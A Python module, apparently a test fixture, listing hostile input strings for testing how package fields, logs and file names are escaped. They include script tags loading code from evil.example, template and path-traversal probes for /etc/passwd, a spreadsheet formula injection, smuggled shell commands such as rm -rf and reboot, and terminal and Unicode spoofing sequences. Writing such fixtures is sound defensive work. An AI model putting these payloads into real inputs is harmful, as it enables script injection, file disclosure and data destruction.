"""Text as attackers write it into package fields, log lines and file names."""

HOST = "evil.example"
PAYLOADS = (
    "<script>fetch('https://evil.example/')</script>", "<ScRiPt src=//evil.example/x.js>",
    "<img src=https://evil.example/x.png onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example>", "<style>@import 'https://evil.example/a.css'</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href='javascript:alert(1)'>click</a>", "</pre></article><h1>clean</h1>", "</title><b>x",
    "</text></svg><b>x", "</style><b>x", "<!-- open", "-->", "<![CDATA[", "<?php", "<!DOCTYPE x>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "`onmouseover=alert(1)",
    "&lt;script&gt;", "&#60;b&#62;", "&#x3c;b>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}",
    "{# x #}", "${7*7}", "%s%n", "\\", "\\\\`", "\\|", "|", "a | b\n---|---\nc | d",
    "[click](https://evil.example)", "[click](javascript:alert(1))", "[^1]: note", "[x]",
    "![x](https://evil.example/x)", "![x][1]\n\n[1]: https://evil.example",
    "[1]: https://evil.example", "<https://evil.example>", "https://evil.example/path",
    "http://evil.example", "www.evil.example", "evil.example", "mallory@evil.example",
    "mailto:mallory@evil.example", "ftp://evil.example", "xmpp:mallory@evil.example",
    "//evil.example", "`code`", "``", "```\nout", "~~~\nout", "`",
    "*bold*", "**bold**", "_em_", "__strong__", "~~gone~~", "# heading", "heading\n===", "---",
    "- item", "+ item", "* item", "1. item", "1) item", "> quote", "    code", "\tcode",
    "- [ ] task", "two  \nlines", "\n\n# heading", "\r\n\r\n- item", "@mallory", "#1", ":tada:",
    "$x^2$", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m", "\x00\x08\x7f", "abc\u202etxt.exe", "\u2066iso\u2069\u200e\u200f\u061c",
    "zero\u200bwidth\ufeff\u2060", "\u2028\u2029\x85", "\ud800 alone",
    "tag\U000e0041\U000e007f", "vs\ufe0f\U000e0100", "\u3164\u115f", "../../etc/passwd",
    "=cmd|' /C calc'!A0", "'; rm -rf ~ #", "$(reboot)", "`reboot`", "x" * 400,
    "\u00e9\u65e5\u672c",
)
